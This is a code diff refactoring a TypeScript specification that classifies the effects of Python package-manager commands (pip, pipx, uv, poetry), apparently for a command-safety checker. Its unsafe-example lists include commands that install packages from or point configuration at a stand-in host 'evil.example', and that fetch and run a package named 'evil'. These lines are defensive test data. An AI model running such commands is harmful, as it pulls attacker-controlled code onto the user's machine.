@@ -1,6 +1,6 @@
 /** Package managers and environments of Python. */
 import { act } from "../contract/effect.ts";
-import { each, line, network, runs, task, texts } from "./makers.ts";
+import { each, line, network, runs, task } from "./makers.ts";
 import { behind, fetchedAndRun, installs, publishes, removes, runsBehind, wholly } from "./packages-effects.ts";
 import { PIP_FLAGS, PYPI, pipCommands } from "./packages-pip.ts";
 import { packagesPythonTools } from "./packages-python-tools.ts";
@@ -13,7 +13,7 @@ const PIPX: CommandSpec = {
   launcher: true,
   style: "posix",
   flags: "--version --help -h",
-  values: texts("--from --with --python -p"),
+  values: { text: "--from --with --python -p" },
   commands: {
     list: { flags: "--short --json", operands: { max: 0 } },
     run: {
@@ -30,7 +30,7 @@ const PIPX: CommandSpec = {
     },
     ...each("install inject upgrade upgrade-all reinstall reinstall-all install-all", {
       flags: "--force -f --include-deps --editable -e",
-      values: texts("--python --spec --pip-args --index-url -i"),
+      values: { text: "--python --spec --pip-args --index-url -i" },
       operands: "text",
       always: [installs(PYPI)],
     }),
@@ -46,67 +46,56 @@ export const packagesPython: readonly ProgramSpec[] = [
     names: ["pip", "pip3"],
     flags: `${PIP_FLAGS} --version -V --help -h`,
     values: {
-      ...texts("--proxy --timeout --retries --cert --trusted-host"),
-      "--python": "program",
-      "--cache-dir": "writeTree",
-      "--log": "write",
+      text: "--proxy --timeout --retries --cert --trusted-host",
+      program: "--python",
+      writeTree: "--cache-dir",
+      write: "--log",
     },
     operands: { max: 0 },
     commands: pipCommands,
-    examples: {
-      safe: ["pip --version", "pip list", "pip show requests", "pip list --format json", "pip check"],
-      unsafe: [
-        ["pip install requests", ["package.install", "network.contact", "run.task"]],
-        ["pip install -q -e .", ["file.read", "package.install", "network.contact", "run.task"]],
-        ["pip install -r requirements.txt", ["file.read", "package.install", "network.contact", "run.task"]],
-        [
-          "pip install --index-url https://evil.example x",
-          ["package.install-elsewhere", "network.contact", "run.task"],
-        ],
-        [
-          "pip install --trusted-host evil.example x",
-          ["package.install", "network.contact", "package.unverified", "run.task"],
-        ],
-        ["pip uninstall -y x", ["package.delete"]],
-        ["pip download x", ["package.install", "network.contact", "run.task"]],
-        ["pip list --outdated", ["network.contact"]],
-        ["pip config set global.index-url https://evil.example", ["package.settings"]],
-        ["pip freeze", ["run.helper"]],
-        ["pip --python /tmp/x list", ["run.helper"]],
-        ["pip --log /tmp/x list", ["file.write"]],
+    safe: ["pip --version", "pip list", "pip show requests", "pip list --format json", "pip check"],
+    unsafe: [
+      ["pip install requests", ["package.install", "network.contact", "run.task"]],
+      ["pip install -q -e .", ["file.read", "package.install", "network.contact", "run.task"]],
+      ["pip install -r requirements.txt", ["file.read", "package.install", "network.contact", "run.task"]],
+      ["pip install --index-url https://evil.example x", ["package.install-elsewhere", "network.contact", "run.task"]],
+      [
+        "pip install --trusted-host evil.example x",
+        ["package.install", "network.contact", "package.unverified", "run.task"],
       ],
-    },
+      ["pip uninstall -y x", ["package.delete"]],
+      ["pip download x", ["package.install", "network.contact", "run.task"]],
+      ["pip list --outdated", ["network.contact"]],
+      ["pip config set global.index-url https://evil.example", ["package.settings"]],
+      ["pip freeze", ["run.helper"]],
+      ["pip --python /tmp/x list", ["run.helper"]],
+      ["pip --log /tmp/x list", ["file.write"]],
+    ],
   },
   {
     ...PIPX,
     names: ["pipx"],
     launches: "run",
-    examples: {
-      safe: [],
-      unsafe: [
-        ["pipx run cowsay", ["run.unknown-program", "package.fetch-run", "network.contact"]],
-        ["pipx ensurepath", ["start.shell"]],
-        ["pipx install black", ["package.install", "network.contact", "run.task"]],
-      ],
-    },
+    unsafe: [
+      ["pipx run cowsay", ["run.unknown-program", "package.fetch-run", "network.contact"]],
+      ["pipx ensurepath", ["start.shell"]],
+      ["pipx install black", ["package.install", "network.contact", "run.task"]],
+    ],
   },
   {
     ...PIPX,
     names: ["uvx"],
-    examples: {
-      safe: [],
-      unsafe: [
-        ["uvx ruff check", ["run.task"]],
-        ["uvx evil", ["run.unknown-program", "package.fetch-run", "network.contact"]],
-      ],
-    },
+    unsafe: [
+      ["uvx ruff check", ["run.task"]],
+      ["uvx evil", ["run.unknown-program", "package.fetch-run", "network.contact"]],
+    ],
   },
   {
     names: ["uv"],
     launches: "run",
     style: "posix",
     flags: "--version -V --help -h -q --quiet -v --verbose --offline --no-cache -n --no-progress --no-config",
-    values: { ...texts("--color --cache-dir --config-file"), "--directory": "cwd", "--project": "cwd" },
+    values: { text: "--color --cache-dir --config-file", cwd: "--directory --project" },
     operands: { max: 0 },
     commands: {
       run: {
@@ -123,19 +112,16 @@ export const packagesPython: readonly ProgramSpec[] = [
       ...each("add sync lock", {
         flags: `${PIP_FLAGS} --dev --all-extras --frozen --locked --no-sync --all-groups --check --no-dev --all-packages`,
         values: {
-          ...texts(
-            "--extra --group --optional --python -p --index --default-index --index-url --branch --tag --rev --package",
-          ),
-          "-r": "read",
-          "--requirements": "read",
+          text: "--extra --group --optional --python -p --index --default-index --index-url --branch --tag --rev --package",
+          read: "-r --requirements",
         },
         operands: "text",
         always: [installs(PYPI)],
       }),
-      remove: { flags: "--dev", values: texts("--group --optional"), operands: "text", always: [removes] },
+      remove: { flags: "--dev", values: { text: "--group --optional" }, operands: "text", always: [removes] },
       tree: {
         flags: "--frozen --outdated --invert --no-dedupe",
-        values: texts("--depth -d --package"),
+        values: { text: "--depth -d --package" },
         operands: "text",
         always: [task, network(PYPI, false)],
       },
@@ -156,7 +142,7 @@ export const packagesPython: readonly ProgramSpec[] = [
           },
           ...each("install upgrade", {
             flags: PIP_FLAGS,
-            values: texts("--with --from --python -p --index-url"),
+            values: { text: "--with --from --python -p --index-url" },
             operands: "text",
             always: [installs(PYPI)],
           }),
@@ -189,23 +175,21 @@ export const packagesPython: readonly ProgramSpec[] = [
       self: wholly(act("package.change"), network("github.com", false)),
       export: {
         flags: PIP_FLAGS,
-        values: { ...texts("--format"), "-o": "write", "--output-file": "write" },
+        values: { text: "--format", write: "-o --output-file" },
         operands: { max: 0 },
         always: [task],
       },
     },
-    examples: {
-      safe: ["uv --version"],
-      unsafe: [
-        ["uv run pytest -x", ["run.task", "run.task"]],
-        ["uv run --with evil python x.py", ["run.task", "run.script"]],
-        ["uv pip install x", ["run.helper", "package.install", "network.contact", "run.task"]],
-        ["uv add httpx", ["package.install", "network.contact", "run.task"]],
-        ["uv sync", ["package.install", "network.contact", "run.task"]],
-        ["uv publish", ["publish.package", "network.send"]],
-        ["uv tool run ruff check", ["run.task"]],
-      ],
-    },
+    safe: ["uv --version"],
+    unsafe: [
+      ["uv run pytest -x", ["run.task", "run.task"]],
+      ["uv run --with evil python x.py", ["run.task", "run.script"]],
+      ["uv pip install x", ["run.helper", "package.install", "network.contact", "run.task"]],
+      ["uv add httpx", ["package.install", "network.contact", "run.task"]],
+      ["uv sync", ["package.install", "network.contact", "run.task"]],
+      ["uv publish", ["publish.package", "network.send"]],
+      ["uv tool run ruff check", ["run.task"]],
+    ],
   },
   {
     names: ["poetry", "pdm", "hatch", "rye", "pipenv"],
@@ -213,7 +197,7 @@ export const packagesPython: readonly ProgramSpec[] = [
     always: [runs("helper", "plugins of the project may be loaded")],
     flags:
       "--version -V --help -h -n --no-interaction -q --quiet -v -vv -vvv --verbose --no-ansi --ansi --no-plugins --no-cache",
-    values: { "-C": "cwd", "--directory": "cwd", "-P": "cwd", "--project": "cwd" },
+    values: { cwd: "-C --directory -P --project" },
     operands: { max: 0 },
     commands: {
       run: {
@@ -225,19 +209,19 @@ export const packagesPython: readonly ProgramSpec[] = [
       ...each("install update add lock sync", {
         flags:
           "-n --no-interaction -q --quiet -v --verbose --no-root --sync --dev -D --all-extras --no-dev --dry-run --lock --no-update --check --regenerate --editable --compile",
-        values: texts("--with --without --only -E --extras --group -G --source --python"),
+        values: { text: "--with --without --only -E --extras --group -G --source --python" },
         operands: "text",
         always: [installs(PYPI)],
       }),
       ...each("remove uninstall", {
         flags: "-n --no-interaction --dev -D",
-        values: texts("--group -G"),
+        values: { text: "--group -G" },
         operands: "text",
         always: [removes],
       }),
       ...each("show check about version", {
         flags: "-n --no-interaction --tree -t --latest -l --outdated -o --all -a --top-level -T --no-dev -s --short",
-        values: texts("--with --without --only"),
+        values: { text: "--with --without --only" },
         operands: "text",
         always: [runs("helper", "plugins of the project may be loaded")],
       }),
@@ -253,18 +237,15 @@ export const packagesPython: readonly ProgramSpec[] = [
       ...each("init new export cache source self", wholly(environment)),
       ...each("test fmt lint", wholly(task)),
     },
-    examples: {
-      safe: [],
-      unsafe: [
-        ["poetry run pytest", ["run.helper", "run.task", "run.task"]],
-        ["poetry update --no-interaction", ["run.helper", "package.install", "network.contact", "run.task"]],
-        ["poetry add x", ["run.helper", "package.install", "network.contact", "run.task"]],
-        ["poetry publish", ["run.helper", "publish.package", "network.send", "run.task"]],
-        ["poetry --version", ["run.helper"]],
-        ["poetry show", ["run.helper", "run.helper"]],
-        ["pipenv run python -c 'import os'", ["run.helper", "run.task", "run.code"]],
-      ],
-    },
+    unsafe: [
+      ["poetry run pytest", ["run.helper", "run.task", "run.task"]],
+      ["poetry update --no-interaction", ["run.helper", "package.install", "network.contact", "run.task"]],
+      ["poetry add x", ["run.helper", "package.install", "network.contact", "run.task"]],
+      ["poetry publish", ["run.helper", "publish.package", "network.send", "run.task"]],
+      ["poetry --version", ["run.helper"]],
+      ["poetry show", ["run.helper", "run.helper"]],
+      ["pipenv run python -c 'import os'", ["run.helper", "run.task", "run.code"]],
+    ],
   },
   ...packagesPythonTools,
 ];
